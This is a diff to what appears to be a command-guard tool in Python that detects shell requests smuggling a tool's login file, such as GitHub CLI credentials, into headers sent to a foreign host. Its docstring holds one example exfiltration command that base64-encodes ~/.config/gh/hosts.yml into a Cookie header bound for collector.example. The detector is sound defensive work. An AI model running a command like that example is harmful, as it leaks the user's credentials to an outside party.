@@ -63,6 +63,7 @@ def send_acts(
     secret = _secret(request, by)
     if secret is not None and belongs(secret.where, address.host):
         secret = None  # to whom it belongs
+    secret = secret or _login_of_another(request, by, address.host)
     secret = secret or (_in_address(request, by, address.host) if host.kind in ("unknown", "drop") else None)
     name = address.host or request.url.skeleton
     if secret is not None:
@@ -166,9 +167,36 @@ def _in_address(request: Request, by: Invocation | FileWrite | None, host: str) 
     return None
 
 
+def _login_of_another(request: Request, by: Invocation | FileWrite | None, host: str) -> Evidence | None:
+    """The file with a tool's own login in a header that signs the request, to a host that is none of the
+    tool's: ``-H "Cookie: s=$(base64 < ~/.config/gh/hosts.yml)" https://collector.example``."""
+    from guard.model import Evidence, Invocation
+    from guard.programs.borrowed import HOSTS
+    from guard.programs.credential_words import FILES
+
+    if not isinstance(by, Invocation) or not host:
+        return None
+    for name, value in request.headers:
+        if name not in CREDENTIAL_HEADERS or not _computed(value):
+            continue
+        fed = [p for hole in value.holes for p in hole.producers]
+        words = [w.text for p in fed for w in p.argv[1:] if w.text]
+        words += [p.stdin.path.text for p in fed if p.stdin and p.stdin.path and p.stdin.path.text]
+        for tool, files in FILES.items():
+            own = ".".join(HOSTS.get(tool, "").split(".")[-2:])
+            found = next((w for w in words for f in files if w.endswith("/" + f) and f not in SHARED), "")
+            if own and found and not host.endswith(own):
+                return Evidence(f"{found} holds the login of {tool}", found)
+    return None
+
+
+SHARED = (".netrc", ".git-credentials", ".npmrc")
+"""Files with the logins of many hosts."""
+
+
 def _computed(value: Value) -> bool:
-    """Whether a word is filled by the output of a program."""
-    return any(hole.producers for hole in value.holes)
+    """Whether a word is filled by the output of a program, or by what was read (``a line of .env``)."""
+    return bool(value.holes)
 
 
 def _bulk(request: Request, by: Invocation | FileWrite | None) -> str:
